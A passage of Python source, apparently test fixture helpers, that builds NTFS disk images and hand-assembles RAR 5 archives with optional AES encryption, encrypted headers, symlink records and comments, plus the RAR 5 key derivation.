        subprocess.run([mkntfs, "-F", "-f", "-q", str(image)], check=True, capture_output=True)
        for name, data in files.items():
            source = Path(folder) / "member"
            source.write_bytes(data)
            subprocess.run([ntfscp, "-f", str(image), str(source), name], check=True, capture_output=True)
        return image.read_bytes()


def _vint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _rar5_block(fields: bytes, data: bytes = b"") -> bytes:
    import zlib

    header = _vint(len(fields)) + fields
    return struct.pack("<I", zlib.crc32(header)) + header + data


def make_rar5_stored(files: dict[str, bytes], password: str | None = None, encrypt_headers: bool = False,
                     kdf_log2: int = 15, links: dict[str, str] | None = None, comment: bytes = b"") -> bytes:
    """A RAR 5 archive of stored members, written by hand from the RAR 5 format description: the
    signature, the main header, a file header (+ data) per member, the end of archive.

    With `password` each member's data is AES-256-CBC encrypted under a file encryption record
    (PBKDF2-HMAC-SHA256 key, 2**kdf_log2 rounds, with the password check value); with
    `encrypt_headers` too (`rar -hp`) an archive encryption header follows the signature and
    every later header is encrypted, so even the member names need the password. `links`: Unix
    symlinks (name → target), as file headers with a file system redirection record; `comment`:
    the archive comment, a stored "CMT" service header."""
    import os
    import zlib

    from Cryptodome.Cipher import AES

    def encrypt(key: bytes, iv: bytes, plain: bytes) -> bytes:
        return AES.new(key, AES.MODE_CBC, iv).encrypt(plain + bytes(-len(plain) % 16))

    head_key = None
    out = b"Rar!\x1a\x07\x01\x00"
    if password is not None and encrypt_headers:
        salt = os.urandom(16)
        head_key, check = _rar5_keys(password, salt, kdf_log2)
        out += _rar5_block(_vint(4) + _vint(0) + _vint(0) + _vint(0x0001) + bytes([kdf_log2]) + salt + check)

    def block(fields: bytes, data: bytes = b"") -> bytes:
        if head_key is None:
            return _rar5_block(fields, data)
        iv = os.urandom(16)
        return iv + encrypt(head_key, iv, _rar5_block(fields)) + data

    out += block(_vint(1) + _vint(0) + _vint(0))
    if comment:
        out += block(_vint(3) + _vint(0x0002) + _vint(len(comment)) + _vint(0x0004) + _vint(len(comment)) + _vint(0)
                     + struct.pack("<I", zlib.crc32(comment)) + _vint(0) + _vint(0) + _vint(3) + b"CMT", comment)
    for name, target in (links or {}).items():
        record = _vint(5) + _vint(1) + _vint(0) + _vint(len(target.encode())) + target.encode()  # redirection: Unix symlink
        extra = _vint(len(record)) + record
        encoded = name.encode()
        out += block(_vint(2) + _vint(0x0003) + _vint(len(extra)) + _vint(0) + _vint(0) + _vint(0) + _vint(0o120777)
                     + _vint(0) + _vint(1) + _vint(len(encoded)) + encoded + extra)  # stored, host: Unix; no data
    for name, data in files.items():
        encoded = name.encode()
        extra = b""
        stored = data
        if password is not None:
            salt, iv = os.urandom(16), os.urandom(16)
            key, check = _rar5_keys(password, salt, kdf_log2)
            record = _vint(1) + _vint(0) + _vint(0x0001) + bytes([kdf_log2]) + salt + iv + check
            extra = _vint(len(record)) + record  # file encryption record: AES-256, password check present
            stored = encrypt(key, iv, data)
        fields = (_vint(2) + _vint(0x0002 | (0x0001 if extra else 0))  # type: file; flags: data area (+ extra area)
                  + (_vint(len(extra)) if extra else b"") + _vint(len(stored))
                  + _vint(0x0004) + _vint(len(data)) + _vint(0x20)  # file flags: CRC32 present; size; attributes
                  + struct.pack("<I", zlib.crc32(data)) + _vint(0) + _vint(0)  # CRC32; stored, version 0; host: Windows
                  + _vint(len(encoded)) + encoded + extra)
        out += block(fields, stored)
    return out + block(_vint(5) + _vint(0) + _vint(0))


def _rar5_keys(password: str, salt: bytes, kdf_log2: int) -> tuple[bytes, bytes]:
    """RAR 5's AES key and 12-byte password check value: PBKDF2-HMAC-SHA256 over 2**kdf_log2
    rounds gives the key; the same chain run 32 rounds further gives the check value (folded to
    8 bytes, then 4 bytes of its SHA-256)."""
    import hashlib
    import hmac

    secret = password.encode()
    u = hmac.digest(secret, salt + b"\0\0\0\1", "sha256")
    acc = int.from_bytes(u, "big")
    values = []
    for rounds in (2 ** kdf_log2 - 1, 16, 16):
        for _ in range(rounds):
            u = hmac.digest(secret, u, "sha256")
            acc ^= int.from_bytes(u, "big")
        values.append(acc.to_bytes(32, "big"))
    check = bytearray(8)
    for index, byte in enumerate(values[2]):
        check[index % 8] ^= byte
    return values[0], bytes(check) + hashlib.sha256(check).digest()[:4]
